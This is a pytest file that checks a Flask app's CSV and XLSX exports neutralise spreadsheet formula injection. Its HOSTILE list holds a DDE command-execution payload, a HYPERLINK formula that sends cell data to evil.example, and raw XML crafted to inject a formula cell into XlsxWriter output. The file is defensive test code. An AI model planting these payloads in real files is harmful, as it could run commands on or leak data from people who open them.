"""Formula injection: hostile text stored anywhere an export reads from comes back inert from
EVERY CSV and XLSX download in ``app.url_map`` (read back with csv and openpyxl: no text cell
starts with a formula trigger, no XLSX cell is a formula).

tests/app/runs/test_exports.py checks the rationale's content with two hostile names; this file
covers every download and the full list of triggers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import db
from app.models import AnswerPage, Review, utcnow
from app.staff.applications.services import screen_application
from app.staff.runs.decisions import confirm_run
from app.staff.runs.services import start_run
from selection import FORMULA_TRIGGERS
from tests.app.conftest import sign_in_as
from tests.app.helpers import Client, download
from tests.app.world import POOL, Pool, build_pool

# XlsxWriter copies text that starts with <r> and ends with </r> into the file as raw XML (its
# own rich-string markup): this text would close its cell and add a formula cell, Z9.
RAW_XML = (
    '<r><t>a</t></r></is></c><c r="Z9"><f>HYPERLINK("http://evil.example/")</f></c>'
    '<c r="Z10" t="inlineStr"><is><r><t>b</t></r>'
)
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1+1",  # full-width equals sign
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    RAW_XML,
]
# Free-text answers the applications export carries, each given a hostile value.
TEXT_ANSWERS = {
    "contact": ("contact_name", "contact_role", "adjustments"),
    "difference": ("difference",),
    "evidence": ("evidence",),
}


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_inert(cells: list[tuple[str, Any, str | None]]) -> None:
    """(where, value, openpyxl data type or None) for every cell of a download."""
    for where, value, data_type in cells:
        assert data_type != "f", f"{where} is a formula: {value!r}"
        if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
            assert _number(value), f"{where} starts with a formula trigger: {value!r}"


def csv_cells(body: bytes, name: str) -> list[tuple[str, Any, str | None]]:
    rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
    return [
        (f"{name} row {r} col {c}", v, None)
        for r, row in enumerate(rows)
        for c, v in enumerate(row)
    ]


def xlsx_cells(body: bytes, name: str) -> list[tuple[str, Any, str | None]]:
    book = load_workbook(io.BytesIO(body))
    return [
        (f"{name} {sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


@pytest.fixture
def hostile_pool(app: Flask, make_user: Any) -> Pool:
    names = {
        organisation: HOSTILE[i] for i, (organisation, *_rest) in enumerate(POOL[: len(HOSTILE)])
    }
    pool = build_pool(make_user, **names)
    staff = make_user("staff", name="=cmd|' /C calc'!A0")
    for i, application in enumerate(pool.applications):
        evil = HOSTILE[i % len(HOSTILE)]
        for page in db.session.scalars(
            select(AnswerPage).where(AnswerPage.application_id == application.id)
        ):
            if page.page_id in TEXT_ANSWERS:
                page.answers = {
                    **page.answers,
                    **dict.fromkeys(TEXT_ANSWERS[page.page_id], evil),
                }
        for review in db.session.scalars(
            select(Review).where(Review.application_id == application.id)
        ):
            review.overall_comment = evil
    screen_application(
        db.session, pool.applications[0], "eligible", None, HOSTILE[0], staff, utcnow()
    )
    db.session.commit()
    run = start_run(db.session, pool.round, staff, utcnow(), seed=3)
    confirm_run(db.session, run, staff, utcnow())
    # A stored quota row the form would refuse: the download must guard it all the same.
    pool.round.quotas = [
        *pool.round.quotas,
        {"dimension": "nation", "category": "=cmd|' /C calc'!A0", "min": None, "max": 1},
    ]
    db.session.commit()
    pool.run_id = run.id  # type: ignore[attr-defined]
    return pool


# Every download: endpoint -> how to build its URLs from the pool.
DOWNLOADS: dict[str, Callable[[Pool], list[str]]] = {
    "staff.rationale_csv": lambda p: [
        f"/staff/runs/{p.run_id}/rationale.csv",  # type: ignore[attr-defined]
        f"/staff/runs/{p.run_id}/rationale.csv?anonymised=yes",  # type: ignore[attr-defined]
    ],
    "staff.rationale_xlsx": lambda p: [
        f"/staff/runs/{p.run_id}/rationale.xlsx",  # type: ignore[attr-defined]
        f"/staff/runs/{p.run_id}/rationale.xlsx?anonymised=yes",  # type: ignore[attr-defined]
    ],
    "staff.quotas_download": lambda p: [f"/staff/rounds/{p.round.id}/quotas.csv"],
    "staff.reach_csv": lambda p: [f"/staff/rounds/{p.round.id}/reach.csv"],
    "staff.reach_xlsx": lambda p: [f"/staff/rounds/{p.round.id}/reach.xlsx"],
    "staff.applications_csv": lambda p: [f"/staff/rounds/{p.round.id}/applications.csv"],
    "staff.applications_xlsx": lambda p: [f"/staff/rounds/{p.round.id}/applications.xlsx"],
    "admin.audit_log_csv": lambda p: ["/admin/audit.csv"],
    "admin.audit_log_xlsx": lambda p: ["/admin/audit.xlsx"],
}


def download_endpoints(app: Flask) -> set[str]:
    return {
        rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith((".csv", ".xlsx"))
    }


def test_every_spreadsheet_download_is_listed_here(app: Flask) -> None:
    missing = download_endpoints(app) - set(DOWNLOADS)
    assert not missing, f"add these downloads to DOWNLOADS: {missing}"


def test_hostile_text_comes_back_inert_from_every_download(
    app: Flask, client: Client, make_user: Any, hostile_pool: Pool
) -> None:
    sign_in_as(client, make_user("admin"))
    seen: list[str] = []
    for endpoint in sorted(download_endpoints(app)):
        for url in DOWNLOADS[endpoint](hostile_pool):
            # The quota table and the reach counts are plain GETs (no personal data, not
            # audited); the audited exports are POSTs.
            plain = ("staff.quotas_download", "staff.reach_csv", "staff.reach_xlsx")
            fetch = Client.get if endpoint in plain else download
            response = fetch(client, url)
            assert response.status_code == 200, (url, response.status_code)
            body = response.get_data()
            cells = xlsx_cells(body, url) if ".xlsx" in url else csv_cells(body, url)
            assert_inert(cells)
            seen.extend(str(value) for _, value, _ in cells if value is not None)
    # The hostile text did reach the downloads, guarded with a leading apostrophe.
    for hostile in HOSTILE:
        if hostile.startswith(FORMULA_TRIGGERS):
            assert "'" + hostile in seen, f"{hostile!r} never reached a download"
    assert "＝1+1" in seen
    assert RAW_XML in seen and "'" + RAW_XML in seen  # as typed in CSV, marked in XLSX
